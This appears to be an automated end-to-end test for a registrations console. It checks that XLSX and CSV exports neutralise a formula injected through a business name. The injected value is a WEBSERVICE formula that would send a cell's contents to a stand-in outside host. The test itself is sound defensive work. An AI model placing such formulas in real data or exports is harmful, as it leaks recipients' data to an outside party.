import { submitBusiness } from '../support/registrations.ts';
import { enter } from '../support/signed-in.ts';
import { underTest } from '../support/system/under-test.ts';
import { expect, test } from '../support/test.ts';
import { rowsOfCsv } from '../support/workbooks/csv.ts';
import { saveExport } from '../support/workbooks/save-export.ts';
import { openDownload, readRows, sheetOf } from '../support/workbooks/spreadsheet.ts';

const formula = `=WEBSERVICE("https://beacon.invalid/"&A1)`;

test('an officer saves a queue as it is filtered, and nothing in it computes (T37)', async ({
  page,
  openDesk,
}) => {
  const owner = await enter(page, 'A100004', { as: { type: 'Business', name: 'Gaakoshi Stores' } });
  const [number] = crypto.randomUUID().split('-');
  await submitBusiness(owner, formula, `C-${number}`);

  const desk = await openDesk('A100031');
  await desk.goto(`${underTest().console}/registrations?objectKind=Business`);
  const saved = await saveExport(desk, 'Export: registrations', 'xlsx');
  const sheet = sheetOf(await openDownload(saved), 'Registrations');
  const rows = readRows(sheet, 'Identification');
  const mine = rows.find((row) => row['Identification'] === `C-${number}`);
  expect(mine).toMatchObject({ Name: formula, Applicant: 'Gaakoshi Stores' });
  expect(mine?.['Submitted']).toBeInstanceOf(Date);
  expect([...(sheet.cells?.values() ?? [])].filter((cell) => cell.formula !== undefined)).toEqual([]);
  expect(new Set(rows.map((row) => row['Type']))).toEqual(new Set(['Business']));

  const [titles = [], ...lines] = await rowsOfCsv(await saveExport(desk, 'Export: registrations', 'csv'));
  const line = lines.find((cells) => cells.includes(`C-${number}`));
  expect(line?.[titles.indexOf('Name')]).toBe(`'${formula}`);
  // Other journeys submit meanwhile, so that it need not have as many rows.
  expect(new Set(lines.map((cells) => cells[titles.indexOf('Type')]))).toEqual(new Set(['Business']));
});
